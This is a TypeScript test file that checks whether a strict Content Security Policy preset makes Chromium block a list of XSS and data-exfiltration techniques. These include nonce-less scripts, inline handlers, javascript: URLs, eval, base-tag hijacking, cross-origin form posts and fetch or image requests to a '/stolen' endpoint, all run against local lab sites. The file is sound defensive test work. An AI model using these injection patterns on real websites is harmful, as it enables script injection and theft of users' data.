import { type CspPolicy, extendPolicy, type HeaderPolicy, presets } from '@mosaajii/headers'
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { chromiumPath } from '../../../../test/services.ts'
import { marksOf, violationsOf } from './chromium.ts'
import { frameworkNames } from './frameworks.ts'
import { html, openLab, patience, picture, type Routes, script, type Site } from './lab.ts'

/** What somebody managed to put into a page, or what a page does on somebody's behalf. It succeeds when it calls `mark('attack')`. */
interface Attack {
  readonly name: string
  /** The body of the page. */
  readonly body: (nonce: string, other: Site) => string
  /** What the user does. */
  readonly act?: (page: Page) => Promise<unknown>
  /** The violation that Chromium tells when it refuses, from the start of its line. */
  readonly refused: string
  /** The directives without which it succeeds. */
  readonly without: readonly (keyof CspPolicy & string)[]
  /** Whether Trusted Types are left out, because they would stop it before the directive does. */
  readonly pastTrustedTypes?: boolean
  /** How it shows that it succeeded, when not by the mark. */
  readonly succeeded?: (page: Page, other: Site) => Promise<boolean>
}

const guessed = 'AAAAAAAAAAAAAAAAAAAAAAAA'
const scripts = ['script-src', 'default-src'] as const

const attacks: readonly Attack[] = [
  {
    name: 'a script without a nonce',
    body: () => `<script>mark('attack')</script>`,
    refused: 'script-src-elem inline enforce',
    without: scripts,
  },
  {
    name: 'a script with a wrong nonce',
    body: () => `<script nonce="${guessed}">mark('attack')</script>`,
    refused: 'script-src-elem inline enforce',
    without: scripts,
  },
  {
    name: 'a script with an empty nonce',
    body: () => `<script nonce="">mark('attack')</script>`,
    refused: 'script-src-elem inline enforce',
    without: scripts,
  },
  {
    name: 'a file of the same origin without a nonce',
    body: () => `<script src="/attack.js"></script>`,
    refused: 'script-src-elem http',
    without: scripts,
  },
  {
    name: 'a file of another origin without a nonce',
    body: (_, other) => `<script src="${other.origin}/attack.js"></script>`,
    refused: 'script-src-elem http',
    without: scripts,
  },
  {
    name: 'a script in a data: URL',
    body: () => `<script src="data:text/javascript,mark('attack')"></script>`,
    refused: 'script-src-elem data',
    without: scripts,
  },
  {
    name: 'an inline handler',
    body: () => `<img src="/none" onerror="mark('attack')">`,
    refused: 'script-src-attr inline enforce',
    without: scripts,
  },
  {
    name: 'a javascript: URL in a link',
    body: () => `<a href="javascript:mark('attack')">link</a>`,
    act: (page) => page.click('a'),
    refused: 'script-src-elem inline enforce',
    without: scripts,
  },
  {
    name: 'a handler that innerHTML inserts',
    body: (nonce) =>
      `<p></p><script nonce="${nonce}">document.querySelector('p').innerHTML = '<img src=/none onerror=mark("attack")>'</script>`,
    refused: 'script-src-attr inline enforce',
    without: scripts,
    pastTrustedTypes: true,
  },
  {
    name: 'a file that document.write inserts into the parser',
    body: (nonce) => `<script nonce="${nonce}">document.write('<script src=/attack.js></' + 'script>')</script>`,
    refused: 'script-src-elem http',
    without: scripts,
    pastTrustedTypes: true,
  },
  {
    name: 'eval in a nonced script',
    body: (nonce) => `<script nonce="${nonce}">eval('mark("attack")')</script>`,
    refused: 'script-src eval enforce',
    without: scripts,
    pastTrustedTypes: true,
  },
  {
    name: 'a base that redirects the files of the page',
    body: (nonce, other) => `<base href="${other.origin}/"><script nonce="${nonce}" src="attack-of-other.js"></script>`,
    refused: 'base-uri http',
    without: ['base-uri'],
  },
  {
    name: 'a form that posts to another origin',
    body: (_, other) => `<form method="post" action="${other.origin}/stolen"><button>send</button></form>`,
    // Not page.click(), which would wait for the navigation that does not come.
    act: (page) => page.evaluate(`document.querySelector('button').click()`),
    refused: 'form-action http',
    without: ['form-action'],
    succeeded: async (page, other) => page.url() === `${other.origin}/stolen`,
  },
  {
    name: 'an object',
    body: (_, other) => `<object data="${other.origin}/picture.svg" type="image/svg+xml"></object>`,
    refused: 'object-src http',
    without: ['object-src', 'default-src'],
    succeeded: async (_, other) => other.seen.some(({ path }) => path === '/picture.svg'),
  },
  {
    name: 'an embed',
    body: (_, other) => `<embed src="${other.origin}/picture.svg" type="image/svg+xml">`,
    refused: 'object-src http',
    without: ['object-src', 'default-src'],
    succeeded: async (_, other) => other.seen.some(({ path }) => path === '/picture.svg'),
  },
  {
    name: 'a frame of another site',
    body: (_, other) => `<iframe src="${other.origin}/page"></iframe>`,
    refused: 'frame-src http',
    without: ['frame-src', 'default-src'],
    succeeded: async (_, other) => other.seen.some(({ path }) => path === '/page'),
  },
  {
    name: 'a picture of another origin that carries data away',
    body: (_, other) => `<img src="${other.origin}/picture.svg?secret">`,
    refused: 'img-src http',
    without: ['img-src', 'default-src'],
    succeeded: async (_, other) => other.seen.some(({ path }) => path === '/picture.svg'),
  },
  {
    name: 'a fetch to another origin that carries data away',
    body: (nonce, other) => `<script nonce="${nonce}">fetch('${other.origin}/stolen', { mode: 'no-cors' })</script>`,
    refused: 'connect-src http',
    without: ['connect-src', 'default-src'],
    succeeded: async (_, other) => other.seen.some(({ path }) => path === '/stolen'),
  },
]

const chromium = chromiumPath()

const lab = openLab(chromium)

describe.skipIf(!chromium).each(frameworkNames)('strict on %s, in Chromium', (framework) => {
  it.each(attacks)('refuses $name', async ({ body, act, refused, without, pastTrustedTypes = false, succeeded }) => {
    const policy = pastTrustedTypes ? extendPolicy(presets.strict, { trustedTypes: false }) : presets.strict
    const attacked = async (policy: HeaderPolicy): Promise<{ page: Page; success: () => Promise<boolean> }> => {
      const other = await lab.otherSite(otherRoutes)
      const site = await lab.site(framework, { policy, routes: routesWith((nonce) => body(nonce, other)) })
      const page = await lab.visit(site.origin)
      await act?.(page)
      const marked = async (): Promise<boolean> => (await marksOf(page)).includes('attack')
      return { page, success: () => (succeeded ? succeeded(page, other) : marked()) }
    }

    const { page, success } = await attacked(policy)
    await expect.poll(() => violationsOf(page), patience).toContainEqual(expect.stringMatching(`^${refused}`))
    expect(await marksOf(page)).toContain('page')
    expect(await success()).toBe(false)

    // What succeeds without the directives shows that it is they that refuse.
    const removed = Object.fromEntries(without.map((name) => [name, false as const]))
    const weak = await attacked(extendPolicy(policy, { csp: removed, trustedTypes: false }))
    await expect.poll(weak.success, patience).toBe(true)
  })

  it('runs scripts and applies styles that have the nonce', async () => {
    const site = await lab.site(framework, {
      policy: presets.strict,
      routes: {
        ...routesWith(
          (nonce) => `<p id="a">a</p><p id="b">b</p><p id="c" style="color: rgb(7, 8, 9)">c</p>
            <style nonce="${nonce}">#a { color: rgb(1, 2, 3) }</style>
            <style>#b { color: rgb(4, 5, 6) }</style>
            <link rel="stylesheet" href="/style.css">
            <script nonce="${nonce}" src="/attack.js"></script>
            <script nonce="${nonce}" type="module">mark('module')</script>`,
        ),
        '/style.css': () => ({ type: 'text/css', body: 'p { background-color: rgb(9, 9, 9) }' }),
      },
    })
    const page = await lab.visit(site.origin)
    // The mark of the file is the attack's only in the other tests: here it has the nonce.
    expect(await marksOf(page)).toEqual(['page', 'attack', 'module'])
    const styles = `['#a', '#b', '#c'].map((id) => getComputedStyle(document.querySelector(id)).color)`
    expect(await page.evaluate(styles)).toEqual(['rgb(1, 2, 3)', 'rgb(0, 0, 0)', 'rgb(0, 0, 0)'])
    expect(await page.evaluate(`getComputedStyle(document.querySelector('#a')).backgroundColor`)).toBe('rgb(9, 9, 9)')
    expect((await violationsOf(page)).sort()).toEqual([
      'style-src-attr inline enforce',
      'style-src-elem inline enforce',
    ])
  })

  it('runs what a nonced script loads, from any origin', async () => {
    const other = await lab.otherSite(otherRoutes)
    const load = `{
      const policy = trustedTypes.createPolicy('loader', { createScriptURL: (url) => url })
      const s = document.createElement('script')
      s.src = policy.createScriptURL('${other.origin}/attack-of-other.js')
      s.onload = () => mark('loaded')
      document.body.append(s)
    }`
    const site = await lab.site(framework, {
      policy: presets.strict,
      routes: routesWith((nonce) => `<script nonce="${nonce}">${load}</script>`),
    })
    const page = await lab.visit(site.origin)
    await expect.poll(() => marksOf(page), patience).toEqual(['page', 'attack', 'loaded'])
    expect(await violationsOf(page)).toEqual([])
  })

  it('refuses the nonce of an earlier answer', async () => {
    const nonces: string[] = []
    const site = await lab.site(framework, {
      policy: presets.strict,
      routes: routesWith((nonce) => {
        nonces.push(nonce)
        return `<script nonce="${nonces[0]}">mark('stolen nonce')</script>`
      }),
    })
    expect(await marksOf(await lab.visit(site.origin))).toEqual(['page', 'stolen nonce'])
    const later = await lab.visit(site.origin)
    expect(await marksOf(later)).toEqual(['page'])
    expect(await violationsOf(later)).toEqual(['script-src-elem inline enforce'])
    expect(new Set(nonces).size).toBe(2)
  })

  it('hides the nonce from whatever reads attributes', async () => {
    const site = await lab.site(framework, { policy: presets.strict, routes: routesWith(() => '') })
    const page = await lab.visit(site.origin)
    expect(await page.evaluate(`document.querySelector('script').getAttribute('nonce')`)).toBe('')
  })
})

/** A page with a nonced script of its own, which shows that the page is alive, and what else it holds. */
function routesWith(body: (nonce: string) => string): Routes {
  return {
    '/': (nonce) => html(`<script nonce="${nonce}">mark('page')</script>${body(nonce)}`),
    '/attack.js': () => script(`mark('attack')`),
  }
}

const otherRoutes: Routes = {
  '/attack.js': () => script(`mark('attack')`),
  '/attack-of-other.js': () => script(`mark('attack')`),
  '/picture.svg': picture,
  '/page': () => html('another site'),
  '/stolen': () => html('thanks'),
}
